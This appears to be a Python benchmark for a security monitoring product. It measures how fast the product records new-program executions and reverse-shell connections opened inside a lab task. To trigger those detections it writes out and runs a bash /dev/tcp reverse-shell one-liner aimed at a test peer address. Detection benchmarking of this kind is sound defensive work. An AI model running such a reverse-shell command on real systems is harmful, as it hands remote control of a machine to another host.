"""From what happened to who knows it: exec to finding in the journal and at the collector, connection to finding.

`python -m bench.latency [--json] [--attacks N]`. In a lab task a guarded program starts /bin/true 100 times a second;
in between, new programs are run one by one, and reverse shells opened to a peer beside the task. All clocks are one:
CLOCK_REALTIME of this machine. An exec's time is the finding's own (`at`, the exec stop); a connection's is the
peer's accept. In the journal is what the findings file shows, which is written right after the journal (looked at
each millisecond); at the collector is the time that it stored with the batch, taken when the batch is whole.
"""

import argparse
import shutil
import sqlite3
import sys
import tempfile
import threading
import time
from pathlib import Path

import msgspec
from msgspec.structs import replace

from bench.rows import Row, percentile, show
from outrider_lab.settings import JOURNAL_DIR, guarded_task
from outrider_lab.task import Task
from outrider_wire.findings import Finding
from outrider_wire.timestamps import from_rfc3339

FILE = "bench-findings"
BACKGROUND = """
import os, select, sys, time
due = time.monotonic()
count = 0
while not select.select([0], [], [], max(0, due - time.monotonic()))[0]:
    os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)
    due = max(due + 0.01, time.monotonic() - 0.05)
    count += 1
print(count)
"""
PEER = """
import socket, sys, time
server = socket.create_server(("198.51.100.7", 4700))
print("up", flush=True)
for _ in range(int(sys.argv[1])):
    shell, address = server.accept()
    print(address[1], time.time_ns(), flush=True)
    time.sleep(0.4)
    shell.sendall(b"exit\\n")
    while shell.recv(4096):
        pass
"""
SHELL = "bash -c 'HOME=/nowhere bash -i >& /dev/tcp/198.51.100.7/4700 0>&1'"
BETWEEN_S = 0.25
LAST_S = 5.0


class Tail:
    """Notes when each line of a file was first seen, in a thread of its own."""

    def __init__(self, path: Path) -> None:
        self._path = path
        self._ended = threading.Event()
        self.seen: list[tuple[int, Finding]] = []
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self) -> None:
        while not self._path.exists() and not self._ended.wait(0.001):
            pass
        with open(self._path, "rb") as file:
            left = b""
            while not self._ended.wait(0.001):
                *lines, left = (left + file.read()).split(b"\n")
                now_ns = time.time_ns()
                self.seen += [(now_ns, msgspec.json.decode(line, type=Finding)) for line in lines]

    def end(self) -> list[tuple[int, Finding]]:
        """Stop; what was seen."""
        self._ended.set()
        self._thread.join()
        return self.seen


def received_ns(task: Task) -> dict[str, int]:
    """When the collector had each finding, by its id."""
    with tempfile.TemporaryDirectory() as folder:
        for file in (task.folder / "collector").glob("*.sqlite*"):
            shutil.copy(file, folder)  # with its log: a reader beside the writer would have to write, too
        with sqlite3.connect(next(Path(folder).glob("*.sqlite"))) as connection:
            return dict(connection.execute("SELECT id, received_at_ns FROM occurrences").fetchall())


def attack(task: Task, attacks: int) -> tuple[list[tuple[int, Finding]], dict[str, int], dict[int, int], float]:
    """All attacks under the background; what was seen, received and accepted, and spawns a second."""
    task.run(f"for i in $(seq {attacks}); do cp /bin/true /tmp/bench-$i; done")
    tail = Tail(task.journal / FILE)
    peer = task.beside_popen([sys.executable, "-S", "-c", PEER, str(attacks)])
    peer.read_until(b"up")
    background, began = task.popen([sys.executable, "-S", "-c", BACKGROUND]), time.monotonic()
    for number in range(1, attacks + 1):
        task.run(f"/tmp/bench-{number}")
        time.sleep(BETWEEN_S)
        task.run(SHELL)
    took_s = time.monotonic() - began
    spawned = int(background.communicate().stdout)
    time.sleep(LAST_S)
    peer.wait()
    accepted = dict(map(int, line.split()) for line in peer.output.decode().splitlines()[1:])
    return tail.end(), received_ns(task), accepted, spawned / took_s


def rows_of(what: str, took_ms: list[float], expected: int, target_ms: float) -> list[Row]:
    """Median and 99th percentile."""
    unit = "ms"
    if not took_ms:
        return [{"what": f"{what}: none found", "value": 0, "unit": unit, "spread": [], "target": target_ms}]
    spread = [round(min(took_ms), 1), round(max(took_ms), 1)]
    counted = f"{what}, {len(took_ms)} of {expected}"
    return [
        {
            "what": f"{counted}, p50",
            "value": round(percentile(took_ms, 0.5), 1),
            "unit": unit,
            "spread": spread,
            "target": None,
        },
        {
            "what": f"{counted}, p99",
            "value": round(percentile(took_ms, 0.99), 1),
            "unit": unit,
            "spread": spread,
            "target": target_ms,
        },
    ]


def measure(attacks: int) -> list[Row]:
    """All rows."""
    settings = guarded_task()
    assert settings.sidecar is not None
    sidecar = replace(settings.sidecar, env={"OUTRIDER_FINDINGS_FILE": f"{JOURNAL_DIR}/{FILE}"})
    with Task(replace(settings, sidecar=sidecar)) as task:
        seen, received, accepted, rate = attack(task, attacks)
    programs = [(at, f) for at, f in seen if f.type.endswith("/NewBinaryExecuted")]
    shells = [(at, f) for at, f in seen if f.type.endswith("/ReverseShell") and opened(f, accepted)]
    return [
        {"what": "spawns meanwhile", "value": round(rate), "unit": "1/s", "spread": [], "target": None},
        *rows_of("exec to journal", [(at - from_rfc3339(f.at)) / 1e6 for at, f in programs], attacks, 50.0),
        *rows_of(
            "exec to receipt by the collector",
            [(received[f.id] - from_rfc3339(f.at)) / 1e6 for _, f in programs if f.id in received],
            attacks,
            300.0,
        ),
        *rows_of("connection to finding", [(at - opened(f, accepted)) / 1e6 for at, f in shells], attacks, 300.0),
    ]


def opened(finding: Finding, accepted: dict[int, int]) -> int:
    """When the peer accepted the finding's connection; 0 where it is none of the peer's."""
    port = str(finding.evidence.get("stdio.local", "")).rpartition(":")[2]
    return accepted.get(int(port), 0) if port.isdigit() else 0


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--attacks", type=int, default=100)
    options = parser.parse_args()
    show(measure(options.attacks), as_json=options.json)


if __name__ == "__main__":
    main()
